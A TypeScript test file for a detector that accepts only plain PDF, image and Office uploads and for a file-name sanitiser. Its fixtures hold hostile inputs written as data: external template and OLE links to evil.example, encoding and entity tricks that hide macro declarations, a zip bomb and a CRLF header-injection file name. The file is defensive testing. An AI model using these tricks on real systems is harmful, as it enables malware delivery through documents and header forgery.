import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { fileKind, safeFileName } from './file-kind.ts';
import { inMemory } from './stored-file.fixture.ts';

const zip = (...names: string[]) => Buffer.from(zipSync(Object.fromEntries(names.map((name) => [name, strToU8('x')]))));

const kindOf = (bytes: Buffer) => fileKind(inMemory(bytes));

test('The kind of a file is told by its content', async () => {
  expect(await kindOf(Buffer.from('%PDF-1.7\n'))).toBe('pdf');
  expect(await kindOf(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0]))).toBe('png');
  expect(await kindOf(Buffer.from([0xff, 0xd8, 0xff, 0xe0]))).toBe('jpg');
  expect(await kindOf(zip('[Content_Types].xml', 'word/document.xml'))).toBe('docx');
  expect(await kindOf(zip('[Content_Types].xml', 'ppt/presentation.xml'))).toBe('pptx');
});
test('An old Office file is told by the name of its stream', async () => {
  const compound = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
  const withStream = (name: string) => Buffer.concat([Buffer.from(compound), Buffer.from(name, 'utf16le')]);
  expect(await kindOf(withStream('WordDocument'))).toBe('doc');
  expect(await kindOf(withStream('PowerPoint Document'))).toBe('ppt');
  expect(await kindOf(withStream('Workbook'))).toBeNull();
});
test('An archive is told by its directory, whatever comments its entries have', async () => {
  const commented = zipSync({
    '[Content_Types].xml': [strToU8('x'), { comment: 'a comment', extra: { 1: strToU8('more') } }],
    'word/document.xml': strToU8('x'),
  });
  expect(await kindOf(Buffer.from(commented))).toBe('docx');
});
test('The kind of a file is unknown for an archive that only looks like an office file', async () => {
  expect(await kindOf(zip('word/document.xml'))).toBeNull();
  expect(await kindOf(zip('[Content_Types].xml', 'a.txt'))).toBeNull();
  expect(await kindOf(zip('[Content_Types].xml', 'vbaProject.bin.txt', 'ppt/presentation.xml'))).toBe('pptx');
});
test('The kind of a file is unknown when only the first bytes of its mark are there', async () => {
  expect(await kindOf(Buffer.from([0xff, 0xd8, 0x00, 0xe0]))).toBeNull();
  expect(await kindOf(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x0a, 0x1a, 0x0a]))).toBeNull();
  expect(
    await kindOf(Buffer.concat([Buffer.from('<html>'), zip('[Content_Types].xml', 'word/document.xml')])),
  ).toBeNull();
});
test('The kind of a file is unknown for a page, a program, an empty file and an ordinary archive', async () => {
  for (const bytes of [Buffer.from('<html><script>'), Buffer.from('MZ\u0090'), Buffer.alloc(0), zip('a.txt')]) {
    expect(await kindOf(bytes)).toBeNull();
  }
});
test('The kind of a file is unknown for an office file that carries macros', async () => {
  expect(await kindOf(zip('[Content_Types].xml', 'word/document.xml', 'word/vbaProject.bin'))).toBeNull();
});
test('The kind of a file is unknown for an office file whose macros have another name, as its list of parts tells', async () => {
  const types = (text: string) =>
    Buffer.from(zipSync({ '[Content_Types].xml': strToU8(text), 'word/document.xml': strToU8('x') }));
  const part = (type: string) => `<Override PartName="/word/harmless.bin" ContentType="application/${type}"/>`;
  expect(await kindOf(types(part('vnd.ms-office.vbaProject')))).toBeNull();
  expect(await kindOf(types(part('vnd.ms-word.document.macroEnabled.main+xml')))).toBeNull();
  expect(await kindOf(types(part('vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')))).toBe(
    'docx',
  );
});
test('The kind of a file is unknown for an office file whose list of parts is written so that only Office reads it', async () => {
  const macros = '<Override ContentType="application/vnd.ms-office.vbaProject"/>';
  const types = (bytes: Uint8Array) =>
    Buffer.from(zipSync({ '[Content_Types].xml': bytes, 'word/document.xml': strToU8('x') }));
  const bigEndian = Buffer.from(`\ufeff${macros}`, 'utf16le').swap16();
  for (const hidden of [
    Buffer.from(`\ufeff${macros}`, 'utf16le'),
    bigEndian,
    Buffer.from('<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
    Buffer.from('<!DOCTYPE x [<!ENTITY m "vba">]><Override ContentType="&m;Project"/>'),
    Buffer.from('<?xml version="1.0" encoding="UTF-7"?><Types/>'),
  ])
    expect(await kindOf(types(hidden))).toBeNull();
  expect(await kindOf(types(Buffer.from('\ufeff<?xml version="1.0" encoding="utf-8"?><Types/>')))).toBe('docx');
});
test('The kind of a file is unknown for an office file that carries another program, or fetches one when it is opened', async () => {
  const office = (parts: Record<string, string>) =>
    Buffer.from(
      zipSync({
        '[Content_Types].xml': strToU8('<Types/>'),
        'word/document.xml': strToU8('x'),
        ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
      }),
    );
  const leadsTo = (kind: string, target: string, part = 'word/_rels/settings.xml.rels') =>
    office({
      [part]: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
    });
  for (const target of ['https://evil.example/a.dotm', '\\\\evil.example\\a.dotm', 'file://evil.example/a.dotm'])
    expect(await kindOf(leadsTo('attachedTemplate', target)), target).toBeNull();
  expect(await kindOf(leadsTo('oleObject', 'https://evil.example/a.html!', 'word/_rels/header1.xml.rels'))).toBeNull();
  expect(await kindOf(leadsTo('frame', 'https://evil.example/'))).toBeNull();
  expect(await kindOf(leadsTo('oleObject', 'https://evil.example/?a>b'))).toBeNull();
  expect(await kindOf(leadsTo('oleObj&#101;ct', 'https://evil.example/'))).toBeNull();
  // Whoever began with a template of her own, or links to her page, sends what most people send.
  expect(await kindOf(leadsTo('attachedTemplate', 'file:///C:\\Users\\ada\\Resume.dotx'))).toBe('docx');
  expect(await kindOf(leadsTo('hyperlink', 'https://ada.example/?a&#39;b&amp;c', 'word/_rels/document.xml.rels'))).toBe(
    'docx',
  );
  const embedded =
    '<Types><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>';
  expect(await kindOf(office({ '[Content_Types].xml': embedded, 'word/embeddings/oleObject1.bin': 'x' }))).toBeNull();
  expect(await kindOf(office({ 'word/embeddings/oleObject1.bin': 'x' }))).toBeNull();
  expect(await kindOf(office({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x' }))).toBe('docx');
  const old = (name: string) =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from(`WordDocument${name}`, 'utf16le')]);
  expect([await kindOf(old('\u0001Ole10Native')), await kindOf(old(''))]).toEqual([null, 'doc']);
});
test('The kind of a file is unknown for an old Office file that carries macros', async () => {
  const compound = (...parts: Buffer[]) =>
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), ...parts]);
  const named = (name: string) => Buffer.from(name, 'utf16le');
  expect(await kindOf(compound(named('WordDocument'), named('Macros'), named('_VBA_PROJECT')))).toBeNull();
  expect(await kindOf(compound(named('WordDocument'), named('_vba_Project')))).toBeNull();
  const container = Buffer.from('1f00ff0314000000', 'hex');
  const atom = Buffer.from('020000040c000000', 'hex');
  for (const mark of [container, atom]) expect(await kindOf(compound(named('PowerPoint Document'), mark))).toBeNull();
  expect(await kindOf(compound(named('PowerPoint Document')))).toBe('ppt');
});
test('The kind of a file is seen wherever the pieces of the file are cut', async () => {
  const compound = Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(300),
    Buffer.from('WordDocument', 'utf16le'),
    Buffer.alloc(300),
  ]);
  const withMacros = Buffer.concat([compound, Buffer.from('_VBA_PROJECT', 'utf16le'), Buffer.alloc(300)]);
  for (let size = 5; size < 60; size += 1) {
    expect(await fileKind(inMemory(compound, size))).toBe('doc');
    expect(await fileKind(inMemory(withMacros, size))).toBeNull();
  }
});
test('The kind of a file is unknown when its list of parts cannot be read', async () => {
  const broken = zip('[Content_Types].xml', 'word/document.xml');
  const at = broken.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  broken.writeUInt16LE(99, at + 10);
  expect(await kindOf(broken)).toBeNull();
  const far = zip('[Content_Types].xml', 'word/document.xml');
  far.writeUInt32LE(0x7fffffff, far.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 42);
  expect(await kindOf(far)).toBeNull();
  const bomb = zipSync({ '[Content_Types].xml': new Uint8Array(2 * 1024 * 1024), 'word/document.xml': strToU8('x') });
  expect(await kindOf(Buffer.from(bomb))).toBeNull();
});
test('The kind of a file is unknown for a file that ends in the middle of its directory', async () => {
  expect(await kindOf(zip('[Content_Types].xml', 'word/document.xml').subarray(0, 60))).toBeNull();
});

describe("A file's name", () => {
  const pdf = (name: string) => safeFileName(encodeURIComponent(name), 'pdf');
  test("A file's name loses its path and whatever could forge a header", () => {
    expect(pdf('C:\\Users\\ada\\my resume.pdf')).toBe('my resume.pdf');
    expect(pdf('a"\r\nSet-Cookie: x=1.pdf')).toBe('aSet-Cookie x=1.pdf');
    expect(safeFileName('%E0%A4%A', 'pdf')).toBe('file.pdf');
  });
  test("A file's name takes the ending of what the file is, whatever it was sent as", () => {
    expect(pdf('resume.exe')).toBe('resume.pdf');
    expect(pdf('resume.pdf.exe')).toBe('resume.pdf');
    expect(pdf('resume.pdf. . ')).toBe('resume.pdf');
    expect(pdf('resume')).toBe('resume.pdf');
    expect(pdf('RESUME.PDF')).toBe('RESUME.PDF');
    expect(pdf('Letter of Dr. Reed')).toBe('Letter of Dr. Reed.pdf');
    expect(pdf('.exe')).toBe('file.pdf');
    expect(safeFileName('me.jpeg', 'jpg')).toBe('me.jpeg');
    expect(safeFileName('me.png', 'jpg')).toBe('me.jpg');
  });
  test("A file's name keeps its end, where its kind stands, when it is too long", () => {
    expect(pdf(`${'a'.repeat(200)}.pdf`)).toBe(`${'a'.repeat(116)}.pdf`);
  });
  test("A file's name begins with a whole character when it was cut", () => {
    expect(pdf(`😀${'a'.repeat(115)}.pdf`)).toBe(`${'a'.repeat(115)}.pdf`);
  });
  test('A file\'s name is "file" when nothing is left of it', () => {
    for (const name of [undefined, '', '%20%20', 'folder/', '%22%3C%3E'])
      expect(safeFileName(name, 'png')).toBe('file.png');
  });
});
